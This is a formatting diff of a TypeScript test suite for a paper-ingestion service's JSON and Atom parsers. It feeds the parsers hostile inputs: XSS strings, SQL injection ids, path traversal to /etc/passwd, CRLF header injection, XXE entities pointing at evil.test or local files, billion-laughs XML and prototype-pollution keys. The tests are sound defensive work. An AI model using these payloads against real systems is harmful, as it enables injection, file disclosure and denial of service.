@@ -29,10 +29,15 @@ interface ParserCase {
   check?: (batch: SourceBatch) => void;
 }
 
-const hfItem = (paper: Record<string, unknown>, extra: Record<string, unknown> = {}) => ({ paper: { id: '2501.00001', title: 'A title', ...paper }, ...extra });
+const hfItem = (paper: Record<string, unknown>, extra: Record<string, unknown> = {}) => ({
+  paper: { id: '2501.00001', title: 'A title', ...paper },
+  ...extra,
+});
 const hfDoc = (...items: unknown[]) => JSON.stringify(items);
-const atomDoc = (entries: string) => `<?xml version="1.0" encoding="UTF-8"?><feed xmlns="http://www.w3.org/2005/Atom">${entries}</feed>`;
-const atomEntry = (id: string, title: string, extra = '') => `<entry><id>${id}</id><title>${title}</title><summary>S</summary>${extra}</entry>`;
+const atomDoc = (entries: string) =>
+  `<?xml version="1.0" encoding="UTF-8"?><feed xmlns="http://www.w3.org/2005/Atom">${entries}</feed>`;
+const atomEntry = (id: string, title: string, extra = '') =>
+  `<entry><id>${id}</id><title>${title}</title><summary>S</summary>${extra}</entry>`;
 
 const CONTROL_CHARS = /[\u0000-\u0008\u000e-\u001f\u007f]/;
 
@@ -51,39 +56,75 @@ function expectPlainPapers(batch: SourceBatch): void {
 
 const hfCases: ParserCase[] = [
   { name: 'HF: truncated JSON', parser: 'hf', input: '[{"paper":', error: 'invalid_json' },
-  { name: 'HF: an HTML login page with status 200', parser: 'hf', input: '<!DOCTYPE html><html><body><script>alert(1)</script>Sign in</body></html>', error: 'html' },
+  {
+    name: 'HF: an HTML login page with status 200',
+    parser: 'hf',
+    input: '<!DOCTYPE html><html><body><script>alert(1)</script>Sign in</body></html>',
+    error: 'html',
+  },
   { name: 'HF: only whitespace', parser: 'hf', input: ' \r\n\t ', error: 'empty' },
-  { name: 'HF: an error object with CR/LF', parser: 'hf', input: '{"error":"Rate limited\\r\\nX-Injected: 1"}', error: 'upstream_error' },
+  {
+    name: 'HF: an error object with CR/LF',
+    parser: 'hf',
+    input: '{"error":"Rate limited\\r\\nX-Injected: 1"}',
+    error: 'upstream_error',
+  },
   { name: 'HF: null', parser: 'hf', input: 'null', error: 'wrong_shape' },
   { name: 'HF: a giant number', parser: 'hf', input: '1e309', error: 'wrong_shape' },
   { name: 'HF: billion-laughs XML', parser: 'hf', input: BILLION_LAUGHS, error: 'invalid_json' },
-  { name: 'HF: 10,000 nested arrays', parser: 'hf', input: '['.repeat(10_000) + ']'.repeat(10_000), papers: 0, skipped: 1 },
-  { name: 'HF: 10,000 nested objects inside an item', parser: 'hf', input: `[{"paper":${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}}]`, papers: 0, skipped: 1 },
+  {
+    name: 'HF: 10,000 nested arrays',
+    parser: 'hf',
+    input: '['.repeat(10_000) + ']'.repeat(10_000),
+    papers: 0,
+    skipped: 1,
+  },
+  {
+    name: 'HF: 10,000 nested objects inside an item',
+    parser: 'hf',
+    input: `[{"paper":${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}}]`,
+    papers: 0,
+    skipped: 1,
+  },
   {
     name: 'HF: __proto__ and constructor keys in items',
     parser: 'hf',
-    input: '[{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"paper":{"id":"2501.00001","title":"T","__proto__":{"isAdmin":true}}}]',
+    input:
+      '[{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"paper":{"id":"2501.00001","title":"T","__proto__":{"isAdmin":true}}}]',
     papers: 1,
     check: () => expectPrototypeClean(),
   },
   {
     name: 'HF: upvotes 1e308, -1, "7" and 2^53',
     parser: 'hf',
-    input: hfDoc(hfItem({ upvotes: 1e308 }), hfItem({ upvotes: -1 }), hfItem({ upvotes: '7' }), hfItem({ upvotes: 2 ** 53 })),
+    input: hfDoc(
+      hfItem({ upvotes: 1e308 }),
+      hfItem({ upvotes: -1 }),
+      hfItem({ upvotes: '7' }),
+      hfItem({ upvotes: 2 ** 53 }),
+    ),
     papers: 0,
     skipped: 4,
   },
   {
     name: 'HF: SQL, path traversal, script and NUL ids',
     parser: 'hf',
-    input: hfDoc(hfItem({ id: SQL_OR }), hfItem({ id: '../../etc/passwd' }), hfItem({ id: XSS }), hfItem({ id: '2501.00001\u0000' })),
+    input: hfDoc(
+      hfItem({ id: SQL_OR }),
+      hfItem({ id: '../../etc/passwd' }),
+      hfItem({ id: XSS }),
+      hfItem({ id: '2501.00001\u0000' }),
+    ),
     papers: 0,
     skipped: 4,
   },
   {
     name: 'HF: NUL, CR/LF, C1 controls and a 1 MB title',
     parser: 'hf',
-    input: hfDoc(hfItem({ title: 'Line\r\nBcc: victim@evil.test\u0000\u0007\u009b', summary: `a\u0000b${'x'.repeat(50_000)}` }), hfItem({ id: '2501.00002', title: 'T'.repeat(1_000_000) })),
+    input: hfDoc(
+      hfItem({ title: 'Line\r\nBcc: victim@evil.test\u0000\u0007\u009b', summary: `a\u0000b${'x'.repeat(50_000)}` }),
+      hfItem({ id: '2501.00002', title: 'T'.repeat(1_000_000) }),
+    ),
     papers: 2,
     check: (batch) => {
       expect(batch.papers[0]!.paper.title).toBe('Line Bcc: victim@evil.test');
@@ -100,14 +141,25 @@ const hfCases: ParserCase[] = [
   {
     name: 'HF: javascript:, data: and file: URLs are dropped',
     parser: 'hf',
-    input: hfDoc(hfItem({ githubRepo: 'javascript:alert(1)', projectPage: 'data:text/html,<script>alert(1)</script>' }, { thumbnail: 'file:///etc/passwd' })),
+    input: hfDoc(
+      hfItem(
+        { githubRepo: 'javascript:alert(1)', projectPage: 'data:text/html,<script>alert(1)</script>' },
+        { thumbnail: 'file:///etc/passwd' },
+      ),
+    ),
     papers: 1,
-    check: (batch) => expect(batch.papers[0]!.paper).toMatchObject({ githubRepo: null, projectPage: null, thumbnail: null }),
+    check: (batch) =>
+      expect(batch.papers[0]!.paper).toMatchObject({ githubRepo: null, projectPage: null, thumbnail: null }),
   },
   {
     name: 'HF: 100,000 authors and lone surrogates',
     parser: 'hf',
-    input: hfDoc(hfItem({ title: 'Broken \ud800 surrogate', authors: Array.from({ length: 100_000 }, (_, i) => ({ name: `A${i}` })) })),
+    input: hfDoc(
+      hfItem({
+        title: 'Broken \ud800 surrogate',
+        authors: Array.from({ length: 100_000 }, (_, i) => ({ name: `A${i}` })),
+      }),
+    ),
     papers: 1,
     check: (batch) => {
       expect(batch.papers[0]!.paper.authors).toHaveLength(LIMITS.authors);
@@ -123,20 +175,60 @@ const atomCases: ParserCase[] = [
   {
     name: 'Atom: external parameter entity',
     parser: 'atom',
-    input: '<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY % remote SYSTEM "http://evil.test/x.dtd"> %remote;]><feed xmlns="http://www.w3.org/2005/Atom"/>',
+    input:
+      '<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY % remote SYSTEM "http://evil.test/x.dtd"> %remote;]><feed xmlns="http://www.w3.org/2005/Atom"/>',
     error: 'unsafe_xml',
   },
-  { name: 'Atom: lower-case doctype and entity', parser: 'atom', input: '<?xml version="1.0"?><!doctype feed [<!entity x "y">]><feed/>', error: 'unsafe_xml' },
-  { name: 'Atom: a DOCTYPE after 100 KB of comment', parser: 'atom', input: `<?xml version="1.0"?><!--${' '.repeat(100_000)}--><!DOCTYPE feed SYSTEM "file:///etc/passwd"><feed/>`, error: 'unsafe_xml' },
-  { name: 'Atom: unclosed tags', parser: 'atom', input: '<feed><entry><id>2501.00001</id><title>T</entry>', error: 'invalid_xml' },
-  { name: 'Atom: 10,000 nested elements', parser: 'atom', input: `<feed>${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</feed>`, error: 'invalid_xml' },
-  { name: 'Atom: NUL and invalid characters', parser: 'atom', input: atomDoc(atomEntry('http://arxiv.org/abs/2501.00001v1', 'A\u0000B\u0001C')), papers: 1, check: (b) => expect(b.papers[0]!.paper.title).toBe('ABC') },
-  { name: 'Atom: an RSS document', parser: 'atom', input: '<?xml version="1.0"?><rss><channel><item><title>T</title></item></channel></rss>', error: 'wrong_shape' },
-  { name: 'Atom: an HTML error page', parser: 'atom', input: '<html><head><title>502</title></head><body>Bad gateway</body></html>', error: 'html' },
+  {
+    name: 'Atom: lower-case doctype and entity',
+    parser: 'atom',
+    input: '<?xml version="1.0"?><!doctype feed [<!entity x "y">]><feed/>',
+    error: 'unsafe_xml',
+  },
+  {
+    name: 'Atom: a DOCTYPE after 100 KB of comment',
+    parser: 'atom',
+    input: `<?xml version="1.0"?><!--${' '.repeat(100_000)}--><!DOCTYPE feed SYSTEM "file:///etc/passwd"><feed/>`,
+    error: 'unsafe_xml',
+  },
+  {
+    name: 'Atom: unclosed tags',
+    parser: 'atom',
+    input: '<feed><entry><id>2501.00001</id><title>T</entry>',
+    error: 'invalid_xml',
+  },
+  {
+    name: 'Atom: 10,000 nested elements',
+    parser: 'atom',
+    input: `<feed>${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</feed>`,
+    error: 'invalid_xml',
+  },
+  {
+    name: 'Atom: NUL and invalid characters',
+    parser: 'atom',
+    input: atomDoc(atomEntry('http://arxiv.org/abs/2501.00001v1', 'A\u0000B\u0001C')),
+    papers: 1,
+    check: (b) => expect(b.papers[0]!.paper.title).toBe('ABC'),
+  },
+  {
+    name: 'Atom: an RSS document',
+    parser: 'atom',
+    input: '<?xml version="1.0"?><rss><channel><item><title>T</title></item></channel></rss>',
+    error: 'wrong_shape',
+  },
+  {
+    name: 'Atom: an HTML error page',
+    parser: 'atom',
+    input: '<html><head><title>502</title></head><body>Bad gateway</body></html>',
+    error: 'html',
+  },
   {
     name: 'Atom: script in CDATA and as entities stays text',
     parser: 'atom',
-    input: atomDoc(atomEntry('http://arxiv.org/abs/2501.00001v1', `<![CDATA[${XSS}]]>`) + atomEntry('http://arxiv.org/abs/2501.00002v1', '&lt;img src=x onerror=alert(1)&gt; &amp;lt;b&amp;gt;')),
+    input: atomDoc(
+      atomEntry('http://arxiv.org/abs/2501.00001v1', `<![CDATA[${XSS}]]>`) +
+        atomEntry('http://arxiv.org/abs/2501.00002v1', '&lt;img src=x onerror=alert(1)&gt; &amp;lt;b&amp;gt;'),
+    ),
     papers: 2,
     check: (b) => {
       expect(b.papers[0]!.paper.title).toContain('<script>alert(1)</script>');
@@ -152,18 +244,33 @@ const atomCases: ParserCase[] = [
   {
     name: 'Atom: javascript: and SQL entry ids',
     parser: 'atom',
-    input: atomDoc(atomEntry('javascript:alert(1)', 'T1') + atomEntry(SQL_OR.replace(/'/g, '&apos;'), 'T2') + atomEntry('', 'T3')),
+    input: atomDoc(
+      atomEntry('javascript:alert(1)', 'T1') + atomEntry(SQL_OR.replace(/'/g, '&apos;'), 'T2') + atomEntry('', 'T3'),
+    ),
     papers: 0,
     skipped: 3,
   },
   {
     name: 'Atom: 10,000 attributes and a 1 MB summary',
     parser: 'atom',
-    input: atomDoc(`<entry ${Array.from({ length: 10_000 }, (_, i) => `a${i}="v"`).join(' ')}><id>http://arxiv.org/abs/2501.00001</id><title>T</title><summary>${'s'.repeat(1_000_000)}</summary></entry>`),
+    input: atomDoc(
+      `<entry ${Array.from({ length: 10_000 }, (_, i) => `a${i}="v"`).join(' ')}><id>http://arxiv.org/abs/2501.00001</id><title>T</title><summary>${'s'.repeat(1_000_000)}</summary></entry>`,
+    ),
     papers: 1,
     check: (b) => expect(b.papers[0]!.paper.abstract.length).toBe(LIMITS.abstract),
   },
-  { name: 'Atom: a category term that breaks out of an attribute', parser: 'atom', input: atomDoc(atomEntry('http://arxiv.org/abs/2501.00001', 'T', `<category term="cs.LG&quot;&gt;${XSS.replace(/</g, '&lt;').replace(/>/g, '&gt;')}"/>`)), papers: 1 },
+  {
+    name: 'Atom: a category term that breaks out of an attribute',
+    parser: 'atom',
+    input: atomDoc(
+      atomEntry(
+        'http://arxiv.org/abs/2501.00001',
+        'T',
+        `<category term="cs.LG&quot;&gt;${XSS.replace(/</g, '&lt;').replace(/>/g, '&gt;')}"/>`,
+      ),
+    ),
+    papers: 1,
+  },
 ];
 
 function runParser(c: ParserCase): SourceBatch {
@@ -214,9 +321,18 @@ describe('hostile inputs: local files', () => {
   };
 
   const fileCases: Array<{ name: string; path: () => Promise<string>; error?: IngestErrorCode; papers?: number }> = [
-    { name: 'a binary file', path: () => file('binary.bin', Buffer.from([0x00, 0xff, 0xfe, 0x89, 0x50, 0x4e, 0x47, 0x00, 0x0d, 0x0a])), error: 'wrong_shape' },
+    {
+      name: 'a binary file',
+      path: () => file('binary.bin', Buffer.from([0x00, 0xff, 0xfe, 0x89, 0x50, 0x4e, 0x47, 0x00, 0x0d, 0x0a])),
+      error: 'wrong_shape',
+    },
     { name: 'a JSON file with a BOM', path: () => file('bom.json', `\ufeff${hfDoc(hfItem({}))}`), papers: 1 },
-    { name: 'a UTF-16 file', path: () => file('utf16.json', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(hfDoc(hfItem({})), 'utf16le')])), error: 'wrong_shape' },
+    {
+      name: 'a UTF-16 file',
+      path: () =>
+        file('utf16.json', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(hfDoc(hfItem({})), 'utf16le')])),
+      error: 'wrong_shape',
+    },
     { name: 'a billion-laughs file', path: () => file('lol.xml', BILLION_LAUGHS), error: 'unsafe_xml' },
     { name: 'an XXE file', path: () => file('xxe.xml', XXE), error: 'unsafe_xml' },
     { name: 'a file over the size cap', path: () => file('big.json', `[${'1,'.repeat(40_000)}1]`), error: 'too_large' },
@@ -249,7 +365,11 @@ describe('hostile inputs: whole ingest runs over HTTP store nothing when they fa
   beforeAll(async () => {
     server = await new FixtureServer().start();
     env = await createTestEnv({ HF_BASE_URL: server.url, ARXIV_BASE_URL: server.url });
-    deps = { db: env.ctx.db, config: env.config, fetch: { timeoutMs: 1_000, retries: 0, retryDelayMs: 5, maxBytes: 64 * 1024 } };
+    deps = {
+      db: env.ctx.db,
+      config: env.config,
+      fetch: { timeoutMs: 1_000, retries: 0, retryDelayMs: 5, maxBytes: 64 * 1024 },
+    };
   });
   afterAll(async () => {
     await env?.cleanup();
@@ -260,10 +380,30 @@ describe('hostile inputs: whole ingest runs over HTTP store nothing when they fa
   const hf: IngestRequest = { source: 'hf', date: DAY, pageSize: 1, maxPages: 3 };
   const arxiv: IngestRequest = { source: 'arxiv', query: 'cat:cs.LG', maxResults: 5, pageDelayMs: 0 };
 
-  const runCases: Array<{ name: string; request: IngestRequest; handler: FixtureServer['handler']; error: IngestErrorCode }> = [
-    { name: 'arXiv answers billion laughs', request: arxiv, handler: (_q, res) => send(res, 200, 'application/atom+xml', BILLION_LAUGHS), error: 'unsafe_xml' },
-    { name: 'arXiv answers an XXE feed', request: arxiv, handler: (_q, res) => send(res, 200, 'application/atom+xml', XXE), error: 'unsafe_xml' },
-    { name: 'HF answers XML', request: hf, handler: (_q, res) => send(res, 200, 'application/json', BILLION_LAUGHS), error: 'invalid_json' },
+  const runCases: Array<{
+    name: string;
+    request: IngestRequest;
+    handler: FixtureServer['handler'];
+    error: IngestErrorCode;
+  }> = [
+    {
+      name: 'arXiv answers billion laughs',
+      request: arxiv,
+      handler: (_q, res) => send(res, 200, 'application/atom+xml', BILLION_LAUGHS),
+      error: 'unsafe_xml',
+    },
+    {
+      name: 'arXiv answers an XXE feed',
+      request: arxiv,
+      handler: (_q, res) => send(res, 200, 'application/atom+xml', XXE),
+      error: 'unsafe_xml',
+    },
+    {
+      name: 'HF answers XML',
+      request: hf,
+      handler: (_q, res) => send(res, 200, 'application/json', BILLION_LAUGHS),
+      error: 'invalid_json',
+    },
     { name: 'HF never answers', request: hf, handler: () => undefined, error: 'timeout' },
     {
       name: 'HF trickles a body forever',
@@ -315,7 +455,12 @@ describe('hostile inputs: whole ingest runs over HTTP store nothing when they fa
         200,
         'application/json',
         hfDoc(
-          hfItem({ id: '2501.00011', title: `NUL\u0000 and CR/LF\r\n ${XSS}`, summary: 'x'.repeat(20_000), authors: [{ name: 'A\u0000' }] }),
+          hfItem({
+            id: '2501.00011',
+            title: `NUL\u0000 and CR/LF\r\n ${XSS}`,
+            summary: 'x'.repeat(20_000),
+            authors: [{ name: 'A\u0000' }],
+          }),
           hfItem({ id: '2501.00012', title: 'Surrogate \ud800 title', githubRepo: 'javascript:alert(1)' }),
           hfItem({ id: SQL_OR, title: 'skipped' }),
           hfItem({ id: '2501.00013', upvotes: 1e308 }),
@@ -324,7 +469,10 @@ describe('hostile inputs: whole ingest runs over HTTP store nothing when they fa
     const summary = await ingestPapers(deps, { source: 'hf', date: DAY, pageSize: 100 });
     expect(summary).toMatchObject({ fetched: 4, created: 2 });
     expect(summary.skipped).toHaveLength(2);
-    const stored = await env.ctx.db.paper.findMany({ where: { arxivId: { in: ['2501.00011', '2501.00012'] } }, orderBy: { arxivId: 'asc' } });
+    const stored = await env.ctx.db.paper.findMany({
+      where: { arxivId: { in: ['2501.00011', '2501.00012'] } },
+      orderBy: { arxivId: 'asc' },
+    });
     expect(stored[0]!.title).toBe(`NUL and CR/LF ${XSS}`);
     expect(stored[0]!.abstract.length).toBe(LIMITS.abstract);
     expect(stored[0]!.authors).toEqual(['A']);
